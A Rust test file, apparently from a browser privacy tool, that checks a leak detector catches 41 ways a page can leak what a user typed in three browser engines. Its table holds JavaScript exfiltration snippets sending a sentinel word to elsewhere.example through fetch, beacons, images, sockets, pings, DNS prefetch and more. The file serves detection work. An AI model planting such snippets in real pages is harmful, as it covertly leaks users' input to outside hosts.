//! That the witness of `leaks.rs` sees a leak of each sort, in each engine: a page with all of them, each of which tells a word of its own.

use anyhow::ensure;
use fingerpost_browser_tests::{Engine, Listed, Origin, Witness, in_each_engine};
use serde_json::{Value, json};

type Done = anyhow::Result<()>;

/// What a page might do: the name of it, and the script, in which `WORD` is what the family typed and `OTHER` another origin of this machine.
const LEAKS: [(&str, &str); 41] = [
    ("a query", "fetch('/file?WORD')"),
    ("a path", "fetch('/WORD')"),
    ("a header", "fetch('/file', { headers: { 'x-note': 'WORD' } })"),
    ("a body", "fetch('/file', { method: 'POST', body: 'WORD' })"),
    ("an old request", "{ const asked = new XMLHttpRequest(); asked.open('POST', '/old'); asked.send('WORD'); }"),
    ("a beacon", "navigator.sendBeacon('/beacon', 'WORD')"),
    ("a cookie that goes along", "{ document.cookie = 'c=WORD'; fetch('/with-cookie'); }"),
    ("a referrer", "fetch('OTHERheard', { mode: 'no-cors', referrer: '/?WORD', referrerPolicy: 'unsafe-url' })"),
    ("another site", "fetch('http://elsewhere.example/?WORD', { mode: 'no-cors' })"),
    ("another site's picture", "new Image().src = 'http://elsewhere.example/WORD.png'"),
    (
        "another site's picture, hidden in the navigator",
        "{ const root = document.createElement('div').attachShadow({ mode: 'closed' }); document.body.append(root.host); root.append(Object.assign(document.createElement('img'), { src: 'http://elsewhere.example/hidden-WORD.png' })); }",
    ),
    ("another site, in secret", "fetch('https://WORD.example/', { mode: 'no-cors' })"),
    (
        "a style",
        "{ const sheet = document.createElement('style'); sheet.textContent = 'body { background: url(http://elsewhere.example/WORD.gif) }'; document.head.append(sheet); }",
    ),
    (
        "a frame",
        "document.body.append(Object.assign(document.createElement('iframe'), { src: 'http://elsewhere.example/frame-WORD' }))",
    ),
    (
        "a script",
        "document.body.append(Object.assign(document.createElement('script'), { src: 'http://elsewhere.example/WORD.js' }))",
    ),
    (
        "a connection begun early",
        "document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: 'https://early-WORD.example' }))",
    ),
    (
        "a name looked up early",
        "document.head.append(Object.assign(document.createElement('link'), { rel: 'dns-prefetch', href: 'https://name-WORD.example' }))",
    ),
    (
        "a ping",
        "document.body.append(Object.assign(document.createElement('a'), { href: '/', ping: 'http://elsewhere.example/ping-WORD' }))",
    ),
    (
        "a link that tells",
        "document.body.append(Object.assign(document.createElement('a'), { href: 'https://elsewhere.example/linked?WORD' }))",
    ),
    (
        "a form",
        "document.body.append(Object.assign(document.createElement('form'), { action: 'http://elsewhere.example/form-WORD' }))",
    ),
    ("a socket", "new WebSocket('ws://elsewhere.example/WORD')"),
    ("a stream", "new EventSource('/stream?WORD')"),
    ("a call", "new RTCPeerConnection({ iceServers: [{ urls: 'stun:WORD.example' }] })"),
    ("a worker", "new Worker('/worker.js?WORD')"),
    ("a window", "open('http://elsewhere.example/window-WORD')"),
    ("what is stored", "localStorage.setItem('other', 'WORD')"),
    ("what is stored under our name", "localStorage.setItem('fingerpost', 'WORD')"),
    ("what is stored in passing", "sessionStorage['WORD'] = 1"),
    ("what is stored in a database", "indexedDB.open('WORD')"),
    ("what is stored with files", "caches.open('WORD')"),
    ("the window's name", "window.name = 'WORD'"),
    ("a stop on the way back", "history.pushState(null, '', '/?pushed=WORD')"),
    ("an address", "history.replaceState(null, '', '/?replaced=WORD')"),
    ("an address's end", "location.hash = 'WORD'"),
    ("a title", "document.title = 'WORD'"),
    ("a message", "postMessage('WORD', '*')"),
    ("a message to all", "new BroadcastChannel('b').postMessage('WORD')"),
    ("an event", "document.body.dispatchEvent(new CustomEvent('fingerpost-step', { detail: { step: 2, answer: 'WORD' } }))"),
    ("the console", "console.log('WORD')"),
    ("what is thrown", "setTimeout(() => { throw new Error('WORD'); })"),
    ("the clipboard", "navigator.clipboard?.writeText('WORD').catch(() => {}) ?? document.execCommand('WORD')"),
];

async fn each_is_seen(engine: Engine) -> Done {
    let witness = Witness::begin()?;
    let (page, other) = (Origin::open(None)?, Origin::open(None)?);
    let word = |place: usize| format!("elephant{place}x");
    // Each by itself: what an engine refuses does not hide the next.
    let scripts: String = LEAKS
        .iter()
        .enumerate()
        .map(|(place, (_, script))| {
            let script = script.replace("WORD", &word(place)).replace("OTHER", &other.address);
            format!("<script>try {{ {script} }} catch (refused) {{}}</script>\n")
        })
        .collect();
    page.put(
        "/",
        &format!("<!doctype html><html lang=en><head><title>A page</title></head><body><p>All done.</p>{scripts}</body></html>"),
    );
    witness.watch(&page);
    let browser = witness.browser(engine).await?;
    let shown = browser.open(&page.address).await?;
    shown.sees("All done.").await?;
    ensure!(shown.until("location.hash.length > 1", Value::Null).await?, "its scripts do not end");
    // WebKit's small browser makes none.
    let makes_calls = shown.ask("!!window.RTCPeerConnection", Value::Null).await? == json!(true);
    ensure!(makes_calls || engine == Engine::WebKit, "{engine:?} makes no calls any more");
    witness.asks_what_stays(&shown).await?;
    let notes = witness.notes(&[("site", &page), ("other", &other)])?;
    browser.close().await?;
    let listed = Listed::read(include_str!("leaks.txt"), Vec::new())?;
    let refused: Vec<String> = notes
        .iter()
        .filter_map(|note| listed.allows(note, &[("search", &["elephant"])]).err())
        .map(|error| error.to_string())
        .collect();
    let is_seen = |place: usize| {
        refused.iter().any(|refused| refused.contains(&word(place))) || (!makes_calls && LEAKS[place].0 == "a call")
    };
    let unseen: Vec<&str> = LEAKS.iter().enumerate().filter(|(place, _)| !is_seen(*place)).map(|(_, (name, _))| *name).collect();
    ensure!(unseen.is_empty(), "{engine:?} leaks {} in secret: {unseen:?}\n{}", unseen.len(), refused.join("\n"));
    Ok(())
}

in_each_engine!(each_is_seen: seen_in_chromium, seen_in_firefox, seen_in_webkit);
